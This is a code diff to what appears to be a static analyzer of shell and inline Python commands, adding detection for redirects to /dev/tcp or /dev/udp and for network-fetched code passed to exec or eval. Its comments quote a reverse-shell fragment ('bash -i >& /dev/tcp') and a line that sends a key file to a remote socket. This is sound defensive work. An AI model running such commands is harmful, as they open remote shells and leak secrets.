@@ -74,6 +74,7 @@ class Raw:
     code_from_stdin: bool = False  # an interpreter that runs what is piped into it
     network: bool = False  # inline code that talks to the network (urllib, requests, ...)
     reads_env: bool = False  # inline code that reads the environment (os.environ)
+    runs_fetched: bool = False  # runs code it receives from the network (bash -i >& /dev/tcp)
     stdin: tuple[Word, ...] = ()  # what it reads on stdin that is written in the line
     env_vars: tuple[str, ...] = ()  # variables its words expand ($NAME not set in the line)
     text: str = ""
@@ -454,10 +455,14 @@ class _Cmd:
     dynamic: bool = False
     network: bool = False
     reads_env: bool = False
+    runs_fetched: bool = False
 
     def emit(self) -> list[int]:
         for r in self.simple.redirects:
             t = r.target.literal
+            if (t or "").startswith(("/dev/tcp/", "/dev/udp/")):
+                self.network = True  # bash opens a socket: `cat key > /dev/tcp/host/80`
+                self.runs_fetched |= self.program in SHELLS or bool(PYTHONS.match(self.program))
             if t in NULL_DEVICES or (t or "").startswith("/dev/fd/"):
                 continue
             if r.op in ("<", "<>"):
@@ -481,6 +486,7 @@ class _Cmd:
             code_from_stdin=self.code_from_stdin,
             network=self.network,
             reads_env=self.reads_env,
+            runs_fetched=self.runs_fetched,
             stdin=self.simple.stdin,
             env_vars=tuple(
                 dict.fromkeys(
@@ -1245,6 +1251,7 @@ def _python(cmd: _Cmd) -> list[int] | None:
             cmd.inner.extend(py.out)
             cmd.network |= py.network
             cmd.reads_env |= py.reads_env
+            cmd.runs_fetched |= py.network and py.execs
     out.extend(cmd.emit())
     if cmd.code_from_stdin and not bodies and cmd.simple.upstream:
         out.extend(cmd.shell(_DYN_WORD, "pipe"))
@@ -1320,6 +1327,7 @@ class _Py:
     out: list[int] = attrs.Factory(list)
     network: bool = False
     reads_env: bool = False
+    execs: bool = False  # calls exec, eval or compile
 
     def raw(self, program: str, path: Word | None, write: bool, flags: Iterable[str] = ()) -> None:
         paths = (path,) if path is not None else ()
@@ -1349,6 +1357,8 @@ class _Py:
         args = [self.word(a) for a in call.args]
         if name in ("os.fork", "os.forkpty"):
             forks.append(in_loop)
+        if name in ("exec", "eval", "compile", "builtins.exec", "builtins.eval"):
+            self.execs = True
         if name.startswith(_PY_NET):
             self.network = True
         if name in ("os.getenv", "os.environ.get", "os.environ.copy", "os.getenvb"):
